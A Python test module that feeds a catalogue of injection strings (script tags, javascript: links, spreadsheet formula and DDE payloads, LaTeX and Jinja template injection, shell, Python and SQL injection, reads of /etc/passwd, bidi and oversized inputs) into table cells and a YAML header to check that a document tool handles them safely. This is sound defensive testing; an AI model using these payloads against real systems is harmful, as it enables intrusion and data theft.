"""Words that some program would run, follow or trip over: taken as words where words may stand."""

from bad_packs.case import Case, with_cell, with_header_words

WORDS = {
    "a script": "<script>alert(1)</script>",
    "a script that closes ours": "</script><script>alert(1)</script>",
    "an event handler": '"><img src=x onerror=alert(1)>',
    "an SVG with a script": '<svg onload="alert(1)"><script href="data:,alert(1)"/></svg>',
    "a frame": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "a link that runs": "[press](javascript:alert(1))",
    "a link that runs, in disguise": "[press](java\tscript:alert(1)) [press](JaVaScRiPt&colon;alert(1))",
    "a data link": "![x](data:text/html;base64,PHNjcmlwdD4=)",
    "a file link": "[press](file:///etc/passwd) ![x](/etc/passwd)",
    "a comment that hides": "seen <!-- hidden --> <![CDATA[ seen ]]> <?xml version='1.0'?>",
    "a formula": '=HYPERLINK("http://192.0.2.1/?"&A1,"press")',
    "a formula with a plus": "+1+cmd|' /C calc'!A0",
    "a formula with a minus": "-2+3+cmd|' /C calc'!A0",
    "a formula with an at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "a formula behind a tab": "\t=1+1",
    "a formula in wide letters": "＝1+1",
    "a DDE field": 'DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe"',
    "a Word field": '{ INCLUDETEXT "/etc/passwd" } { INCLUDEPICTURE "http://192.0.2.1/x" }',
    "typst that imports": '#import "/etc/passwd": * #read("/etc/passwd") #include "x.typ"',
    "typst that evaluates": '#eval("1+1") $ x $ <label> @label \\ #set page(width: 0pt) //',
    "typst without an end": "#{ #[ ( $ ` ``` /* //",
    "pandoc, raw": "```{=openxml}\n<w:p/>\n``` `<w:br/>`{=openxml} <?pagebreak?>",
    "pandoc, a division": "::: {custom-style=Title}\nx\n::: [x]{.y z=1} ^[a note] [^1]\n\n[^1]: a note",
    "pandoc, cited": "@cite [@cite, p. 1] (@good) --- ... % title",
    "LaTeX": "\\input{/etc/passwd} \\write18{id} \\def\\x{\\x\\x}\\x",
    "Jinja": "{{ 7*7 }} {% for x in range(10**9) %} {{ ''.__class__.__mro__[1].__subclasses__() }} {# x #}",
    "format places": "{0.__class__.__init__.__globals__} {x!r:>999999999} {} %s %(x)s %n ${x} $x",
    "a shell": "$(touch pwned) `touch pwned` ; touch pwned | touch pwned && touch pwned",
    "Python": '"); import os; os.system("touch pwned"); ("',
    "a query": "'; DROP TABLE actions; --",
    "bidi overrides": "pay \u202e001\u202c rupees \u202d\u202a\u202b",
    "bidi isolates": "\u2066\u2067\u2068 never closed",
    "invisible signs": "zero\u200bwidth\ufeff\u00ad\u2060 tag\U000e0041 \u180e",
    "marks without an end": "Z" + "\u0300" * 500,
    "terminal colours": "\x1b[31mred\x1b]0;title\x07 \x9b31m \x08\x08",
    "other line ends": "one\u2028two\u2029three\x0bfour\x0cfive\x85six\rseven",
    "signs that are none": "\ufffe\uffff\U0001ffff \ufdd0",
    "private and rare signs": "\ue000\U00100000\U0001f9d1\u200d\U0001f680 \U0001f1f5\U0001f1f0",
    "many entities": "&lt;b&gt; &#x3c;b&#62; &amp;amp; &nosuch; &#xD800;",
    "many brackets": "[" * 3000 + "(" * 3000,
    "many stars": "*_" * 5000,
    "many quotes in Markdown": "> " * 4000,
    "many links": "[a](" * 4000,
    "a word without an end": "x" * 30_000,
    "a web address without an end": "https://example.org/" + "a" * 20_000,
    "a reference link": "[a]: javascript:alert(1)\n[a] [b][a]",
}
PLACES = (
    ("actions", 2, "title"),
    ("gaps", 2, "statement"),
    ("instruments", 2, "title"),
    ("sources", 2, "citation"),
    ("criteria", 2, "label"),
    ("institutions", 2, "name"),
)

CASES = [
    Case(f"{name}, in {'.'.join(map(str, place))}", with_cell(*place, words), codes=(0,))
    for number, (name, words) in enumerate(WORDS.items())
    for place in PLACES[number % len(PLACES) :: len(PLACES)]
] + [
    Case(f"{name}, in workshop.yaml", with_header_words(number, words), codes=(0, 2))
    for number, (name, words) in enumerate(WORDS.items())
    if number % 5 == 0
]
